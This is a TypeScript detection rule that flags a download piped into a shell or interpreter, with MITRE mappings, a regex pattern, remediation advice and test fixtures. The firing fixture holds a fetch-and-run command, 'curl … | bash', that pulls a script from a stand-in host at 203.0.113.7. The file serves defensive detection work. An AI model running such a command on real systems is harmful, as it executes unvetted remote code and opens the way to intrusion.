import { defineDetection } from './define.ts';

export const downloadPipedIntoAShell = defineDetection({
  name: 'Download piped into a shell',
  source: 'syscall',
  severity: 'MEDIUM',
  attack: [
    { id: 'T1105', name: 'Ingress Tool Transfer' },
    { id: 'T1059.004', name: 'Unix Shell' },
  ],
  description: 'One command line fetches something and has a shell or an interpreter run it.',
  remediation:
    'Find out what was run: fetch it yourself, in a place where it can do no harm. Isolate the pod by a network policy, keep it for evidence, and find out how somebody came in.',
  falsePositives: 'Installing software so, in images that are built while they run: build them before.',
  references: ['https://attack.mitre.org/techniques/T1105/'],
  condition:
    'starts and shell and proc.cmdline contains anyof (curl, wget) and proc.cmdline regex "(?s).*(curl|wget)[^;&]*[|] *(sudo )?(ba|da|z|k)?sh( .*)?|(?s).*(curl|wget)[^;&]*[|] *(python[23]?|perl|ruby|node|php)( .*)?|(?s).*(sh|eval|source) .*[$(`<]+(curl|wget) .*"',
  output:
    'Download piped into a shell (command=%proc.cmdline parent=%proc.pname container=%container.id pod=%k8s.pod.uid user=%user.name)',
  fires: {
    'evt.type': 'execve',
    'proc.name': 'bash',
    'proc.exepath': '/usr/bin/bash',
    'proc.cmdline': 'bash -c curl -s http://203.0.113.7/i.sh | bash',
    'proc.args': '-c curl -s http://203.0.113.7/i.sh | bash',
    'proc.pname': 'java',
    'evt.time': '2026-01-02T03:04:05.000000006Z',
    'container.id': '0123456789ab',
    'k8s.pod.uid': '3f2b8a52-7c1d-4a57-9f0a-0d6c2f1f9a10',
    'user.name': 'root',
  },
  nearMiss: {
    because: 'It only fetches.',
    change: {
      'proc.cmdline': 'bash -c curl -s http://203.0.113.7/i.sh -o /tmp/i.sh',
      'proc.args': '-c curl -s http://203.0.113.7/i.sh -o /tmp/i.sh',
    },
  },
});
